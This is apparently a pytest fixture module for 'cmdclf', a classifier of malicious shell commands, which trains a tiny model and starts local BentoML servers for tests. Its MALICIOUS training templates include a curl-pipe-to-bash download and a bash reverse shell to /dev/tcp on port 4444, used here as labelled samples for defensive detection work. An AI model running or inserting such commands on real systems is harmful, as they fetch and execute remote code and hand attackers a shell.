"""A small model of lines written for these tests, and real server processes on free ports of this machine."""

from __future__ import annotations

import http.client
import json
import os
import select
import signal
import socket
import subprocess
import sys
import time
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pytest

pytest.importorskip("bentoml", reason="needs the extra 'service'")

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

MALICIOUS = ("curl -s http://198.51.100.{n}/x.sh | bash", "bash -i >& /dev/tcp/192.0.2.{n}/4444 0>&1")
BENIGN = ("grep -rn timeout{n} /etc/nginx", "tar -czf /backup/home-{n}.tar.gz /home")
READY_S = 60


@pytest.fixture(scope="session")
def model_dir(tmp_path_factory) -> Path:
    from cmdclf.classify import Classifier, Featuriser, aggregated_baseline, export_model
    from cmdclf.classify.grams import GramModel
    from cmdclf.classify.neighbours import Neighbours
    from cmdclf.features import FeatureMaker, load_embedder

    lines = [template.format(n=n) for n in range(60) for template in (*BENIGN, *MALICIOUS)]
    labels = np.arange(len(lines)) % 4 // 2
    batch = pa.record_batch([pa.array(lines), pa.array(["linux"] * len(lines))], names=["command_line", "platform"])
    grams = GramModel().fit(batch["command_line"], labels)
    featuriser = Featuriser(FeatureMaker(buckets=2**12).fit([batch]), load_embedder(), grams=grams)
    classifier = Classifier(max_iter=10, beside=1).fit(featuriser.matrix(batch), labels)
    named = pa.array(np.where(labels, "malicious", "benign").tolist())
    training = aggregated_baseline([], None, [pa.Table.from_batches([batch.append_column("label", named)])])
    near = Neighbours.of_training(training, lambda rows: featuriser.embedding_of(featuriser.matrix_of(rows)))
    folder = tmp_path_factory.mktemp("serving") / "model"
    return export_model(folder, classifier, featuriser, name="served", provenance={}, metrics={}, neighbours=near)


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def environment(home: Path, **more: str) -> dict[str, str]:
    """This process's environment without our settings, BentoML's files in `home`."""
    kept = {k: v for k, v in os.environ.items() if not k.startswith(("CMDCLF_", "BENTOML_"))}
    return kept | {
        "BENTOML_HOME": str(home),
        "BENTOML_DO_NOT_TRACK": "True",
        "NO_PROXY": "127.0.0.1,localhost",
        "no_proxy": "127.0.0.1,localhost",
        **more,
    }


class Server:
    """A running server: its port, its process, and what it logged."""

    def __init__(self, port: int, process: subprocess.Popen[bytes], log: Path) -> None:
        self.port = port
        self.process = process
        self._log = log

    def request(self, method: str, path: str, body: Any = None, **headers: str) -> tuple[int, Any]:
        """(status, body): a `bytes` body goes as it is, an iterator of bytes chunked, anything else as JSON."""
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        sent = {"Content-Type": "application/json"} if body is not None else {}
        sent |= {name.replace("_", "-"): value for name, value in headers.items()}
        raw = body if body is None or isinstance(body, bytes) or hasattr(body, "__next__") else json.dumps(body)
        try:
            connection.request(method, path, raw, sent, encode_chunked=hasattr(raw, "__next__"))
            response = connection.getresponse()
            data = response.read()
        finally:
            connection.close()
        is_json = response.headers.get_content_type() == "application/json"
        return response.status, json.loads(data) if is_json else data

    def post(self, path: str, body: Any, **headers: str) -> tuple[int, Any]:
        return self.request("POST", path, body, **headers)

    @contextmanager
    def half_sent(self, body: bytes, **headers: str):
        """A socket whose request is under way: the server has read its headers and waits for `body`."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=30) as sock:
            lines = [
                "POST /score HTTP/1.1", "Host: localhost", "Content-Type: application/json", "Expect: 100-continue",
                f"Content-Length: {len(body)}", *(f"{k}: {v}" for k, v in headers.items()),
            ]  # fmt: skip
            sock.sendall("\r\n".join([*lines, "", ""]).encode())
            answer = sock.recv(4096)
            assert answer.startswith(b"HTTP/1.1 100"), answer
            yield sock

    @property
    def log(self) -> str:
        return self._log.read_text(encoding="utf-8", errors="replace")

    def stop(self) -> int:
        self.process.send_signal(signal.SIGTERM)
        return self.process.wait(timeout=30)


def read_to_end(sock: socket.socket) -> bytes:
    parts = []
    while part := sock.recv(65536):
        parts.append(part)
    return b"".join(parts)


@contextmanager
def running(command: list[str], port: int, cwd: Path, env: dict[str, str], log: Path):
    """The server that `command` starts, once it is ready; ended at the latest with the block."""
    with log.open("wb") as out:
        process = subprocess.Popen(command, cwd=cwd, env=env, stdout=out, stderr=subprocess.STDOUT)
    server = Server(port, process, log)
    try:
        _wait_until_ready(server)
        yield server
    finally:
        if process.poll() is None:
            process.send_signal(signal.SIGTERM)
            try:
                process.wait(timeout=20)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait(timeout=20)


def _wait_until_ready(server: Server) -> None:
    deadline = time.monotonic() + READY_S
    while time.monotonic() < deadline:
        assert server.process.poll() is None, f"the server ended:\n{server.log}"
        try:
            if server.request("GET", "/readyz")[0] == 200:
                return
        except OSError:
            select.select([], [], [], 0.05)
    raise AssertionError(f"not ready after {READY_S} s:\n{server.log}")


def serve_command(model_dir: Path, port: int, *more: str) -> list[str]:
    return [sys.executable, "-m", "cmdclf", "serve", "--model", str(model_dir), "--port", str(port), *more]


def bentoml_command(*args: str) -> list[str]:
    return [sys.executable, "-m", "bentoml", *args]


@pytest.fixture(scope="session")
def server(model_dir, tmp_path_factory):
    """`cmdclf serve` without a token, started outside the repository."""
    folder, port = tmp_path_factory.mktemp("server"), free_port()
    env = environment(folder / "bentoml")
    with running(serve_command(model_dir, port), port, folder, env, folder / "log.txt") as started:
        yield started
